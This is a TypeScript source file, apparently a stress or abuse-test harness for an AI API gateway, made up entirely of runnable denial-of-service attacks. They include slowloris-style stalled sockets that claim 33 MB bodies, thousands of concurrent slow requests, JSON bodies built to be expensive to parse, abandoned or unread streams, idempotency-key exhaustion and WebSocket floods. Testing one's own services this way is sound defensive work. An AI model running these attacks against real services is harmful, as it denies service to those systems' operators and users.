/** Attacks by a hostile or careless holder of one key. Each runs until its signal aborts. */
import { randomUUID } from "node:crypto";
import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { Agent, request } from "undici";
import { WebSocket } from "ws";

export interface Target {
  /** The ingress' address, without /v1. */
  url: string;
  key: string;
  /** Where an image of 19 MiB is. */
  imageUrl: string;
}

type Attack = (target: Target, signal: AbortSignal) => Promise<void>;

const connections = new Agent({ connections: 4_000, headersTimeout: 0, bodyTimeout: 0 });
const sentence = [{ role: "user", content: "Write a poem." }];
const times = (count: number, text: (place: number) => string) =>
  Array.from({ length: count }, (_, place) => text(place)).join(",");

/**
 * New connections a second: more of them delay whoever comes behind them, and only a proxy in front
 * can tell them apart before they are accepted.
 */
const connectionsPerSecond = 500;

/** This many at once, each place repeating; an error is the gateway's way to refuse. */
async function together(count: number, signal: AbortSignal, act: (place: number) => Promise<void>): Promise<void> {
  const line = async (_: unknown, place: number) => {
    await delay((1_000 * place) / connectionsPerSecond, undefined, { signal }).catch(() => undefined);
    while (!signal.aborted) {
      const startedAt = performance.now();
      await act(place).catch(() => undefined);
      // An attacker that is refused at once tries at most a hundred times a second.
      if (performance.now() - startedAt < 10) await delay(10);
    }
  };
  await Promise.all(Array.from({ length: count }, line));
}

interface Posted {
  path?: string;
  headers?: Record<string, string>;
  /** Reads the answer, or does something else with it. */
  read?: (body: AsyncIterable<Buffer>) => Promise<void>;
}

async function post(
  { url, key }: Target,
  body: string,
  signal: AbortSignal,
  { path = "/v1/chat/completions", headers, read }: Posted = {},
): Promise<void> {
  const answer = await request(`${url}${path}`, {
    method: "POST",
    headers: { "x-api-key": key, "content-type": "application/json", ...headers },
    body,
    signal,
    dispatcher: connections,
  });
  if (read !== undefined) await read(answer.body);
  else for await (const _ of answer.body);
}

const chat = (model: string, more: object = {}) => JSON.stringify({ model, messages: sentence, ...more });

/** Bodies whose shape costs more than their size. */
const shapes: Record<string, { path?: string; body: () => string }> = {
  "distinct members": {
    body: () => `{"model":"their-chat","messages":[],"metadata":{${times(90_000, (place) => `"k${place}":"v"`)}}}`,
  },
  "tool calls": {
    body: () =>
      `{"model":"their-messages","messages":[{"role":"user","content":"x"},{"role":"assistant","tool_calls":[${times(15_000, (place) => `{"id":"call_${place}","type":"function","function":{"name":"f","arguments":"{}"}}`)}]},${times(15_000, (place) => `{"role":"tool","tool_call_id":"call_${place}","content":"x"}`)}]}`,
  },
  "empty arrays": { body: () => `{"model":"their-chat","messages":[${times(99_000, () => "[]")}]}` },
  "text of 30 MB": {
    body: () => `{"model":"their-messages","messages":[{"role":"user","content":"${"\\u00e9\\n".repeat(3_700_000)}"}]}`,
  },
  parts: {
    body: () =>
      `{"model":"their-messages","messages":[{"role":"user","content":[${times(90_000, () => '{"type":"text","text":"x"}')}]}]}`,
  },
  "token count": {
    path: "/v1/messages/count_tokens",
    body: () =>
      `{"model":"their-chat","messages":[{"role":"user","content":"${"many words to be counted ".repeat(400_000)}"}]}`,
  },
  "data URL": {
    body: () =>
      `{"model":"their-messages","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,${"iVBORw0K".repeat(2_500_000)}"}}]}]}`,
  },
};

/** Bare sockets that send a head and then next to nothing, opened anew when they are closed. */
async function stalled({ url, key }: Target, signal: AbortSignal, count: number, head: string): Promise<void> {
  const { hostname, port } = new URL(url);
  await together(count, signal, async () => {
    const socket = connect(Number(port), hostname);
    socket.on("error", () => undefined);
    signal.addEventListener("abort", () => socket.destroy(), { once: true });
    socket.write(head.replace("KEY", key));
    socket.resume();
    await once(socket, "close");
  });
}

const json = "Host: x\r\nContent-Type: application/json\r\n";

export const attacks: Record<string, Attack> = {
  "answers stored for idempotency keys": (target, signal) =>
    together(20, signal, () =>
      post(target, chat("their-large"), signal, { headers: { "idempotency-key": randomUUID() } }),
    ),
  "leaving streams": (target, signal) =>
    together(100, signal, async () => {
      const leaving = new AbortController();
      await post(target, chat("their-slow", { stream: true }), AbortSignal.any([signal, leaving.signal]), {
        read: async (body) => {
          for await (const _ of body) leaving.abort();
        },
      });
    }),
  "bodies of costly shapes": (target, signal) => {
    const bodies = Object.values(shapes).map(({ path, body }) => ({ path, body: body() }));
    return together(bodies.length, signal, async (place) => {
      const { path, body } = bodies[place] as (typeof bodies)[number];
      await post(target, body, signal, { ...(path !== undefined && { path }) });
    });
  },
  "stalled senders": (target, signal) =>
    stalled(
      target,
      signal,
      300,
      `POST /v1/chat/completions HTTP/1.1\r\n${json}x-api-key: KEY\r\nContent-Length: 33000000\r\n\r\n{`,
    ),
  "stalled senders without a key": (target, signal) =>
    stalled(target, signal, 300, `POST /v1/chat/completions HTTP/1.1\r\n${json}Content-Length: 33000000\r\n\r\n{`),
  "a queue full of slow requests": (target, signal) =>
    together(3_000, signal, () => post(target, chat("their-slow"), signal)),
  "images by address": (target, signal) =>
    together(60, signal, () =>
      post(
        target,
        chat("their-messages", {
          messages: [{ role: "user", content: [{ type: "image_url", image_url: { url: target.imageUrl } }] }],
        }),
        signal,
      ),
    ),
  "answers that nobody reads": (target, signal) =>
    together(200, signal, (place) =>
      post(target, chat(`their-large`, { stream: true, user: String(place) }), signal, {
        read: () => delay(60_000, undefined, { signal }),
      }),
    ),
  WebSockets: async (target, signal) => {
    const address = `${target.url.replace("http", "ws")}/v1/responses`;
    const open = async (key: string, speak: (socket: WebSocket) => void) => {
      const socket = new WebSocket(address, { headers: { authorization: `Bearer ${key}` } });
      const stop = () => socket.terminate();
      signal.addEventListener("abort", stop, { once: true });
      socket.on("error", () => undefined);
      socket.on("open", () => speak(socket));
      await once(socket, "close");
      signal.removeEventListener("abort", stop);
    };
    await Promise.all([
      together(1_000, signal, () =>
        open(target.key, (socket) =>
          socket.send(JSON.stringify({ type: "response.create", model: "their-slow", input: "x" })),
        ),
      ),
      together(20, signal, () => open("wrong", () => undefined)),
    ]);
  },
  "as many small requests as it takes": (target, signal) =>
    together(200, signal, () => post(target, chat("their-chat"), signal)),
};
